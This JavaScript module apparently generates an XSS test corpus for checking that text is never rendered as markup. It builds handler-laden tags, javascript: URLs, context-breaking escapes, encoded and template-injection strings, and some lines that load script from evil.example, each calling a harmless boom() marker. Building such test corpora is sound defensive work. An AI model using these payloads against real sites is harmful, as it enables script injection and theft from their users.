// Texts that become markup or script where somebody forgets that they are texts. Each calls `boom()` if it
// runs. Made from parts, so that no element, handler or way of writing it is left out by chance.

const HANDLERS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onpointerenter", "onanimationstart", "onbeforeinput"];
const ELEMENTS = ["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=x", "object data=x", "marquee", "math", "custom-tag tabindex=0"];

const elements = ELEMENTS.flatMap((element, at) => HANDLERS.filter((_, index) => (index + at) % 2 === 0).map((handler) => `<${element} ${handler}=boom()>`));

const ADDRESSES = ["javascript:boom()", "JaVaScRiPt:boom()", "java\tscript:boom()", " javascript:boom()", "data:text/html,<script>boom()</script>", "vbscript:boom()", "blob:boom()", "//evil.example/boom", "javascript://%0aboom()", "&#106;avascript:boom()"];
const links = ADDRESSES.flatMap((address) => [`<a href="${address}">here</a>`, `[here](${address})`, `<form action="${address}"><button>go`, `<base href="${address}">`]);

const WRAPPED = ['">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</template>", "</style>", "</noscript>", "` ", "\\\">"];
const escapes = WRAPPED.flatMap((out) => [`${out}<script>boom()</script>`, `${out}<img src=x onerror=boom()>`]);

const singles = [
  "<script>boom()</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script type=module>boom()</script>", "<script/x>boom()</script>", "<<script>boom()//<</script>",
  "<iframe srcdoc=\"<script>parent.boom()</script>\"></iframe>", "<svg><script>boom()</script></svg>", "<svg><animate onbegin=boom() attributeName=x></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=boom()>",
  "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content=\"0;url=javascript:boom()\">", "<embed src=javascript:boom()>", "<img src=\"x\" srcset=\"x 1x\" onerror=\"boom()\">",
  "&lt;img src=x onerror=boom()&gt;", "&#60;script&#62;boom()&#60;/script&#62;", "\\u003cscript\\u003eboom()\\u003c/script\\u003e", "%3Cscript%3Eboom()%3C/script%3E", "+ADw-script+AD4-boom()+ADw-/script+AD4-",
  "{{constructor.constructor('boom()')()}}", "${boom()}", "#{boom()}", "<%= boom() %>", "{{7*7}}", "[[${boom()}]]", "*{boom()}", "__proto__[innerHTML]=<img src onerror=boom()>", "constructor.prototype.boom",
  "**<b onclick=boom()>bold</b>**", "![x](javascript:boom())", "<javascript:boom()>", "[x]: javascript:boom()", "`<img src=x onerror=boom()>`", "# <img src=x onerror=boom()>", "- <svg onload=boom()>", "[a](https://evil.example \"onmouseover=boom()\")",
  "<dialog open><form method=dialog><button formaction=javascript:boom()>x", "<a id=defaultView></a><a id=defaultView name=boom>", "<img name=getElementById>", "<x contenteditable onblur=boom()>x", "<p style=\"animation-name:x\" onanimationend=boom()>",
];

/** One line each, because a line is what `innerText` gives back unchanged. */
export const PAYLOADS = [...new Set([...singles, ...elements, ...links, ...escapes].map((text) => text.replace(/[\t\n]/g, "").trim()))];

/** The payloads in as few texts of at most `length` characters as they need, a line each. */
export function packed(length) {
  const texts = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length + 1 <= length) texts[texts.length - 1] = `${last}\n${payload}`;
    else texts.push(payload);
  }
  return texts;
}
